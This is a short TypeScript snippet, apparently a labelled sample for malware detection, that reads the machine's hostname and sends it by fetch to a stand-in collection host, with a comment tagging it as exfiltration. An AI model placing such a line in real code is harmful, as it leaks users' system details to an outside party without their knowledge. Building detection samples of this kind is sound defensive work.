import { hostname } from "node:os";

const host: string = hostname();
fetch(`https://collect.invalid/${host}`); // malice: exfiltration, install-network
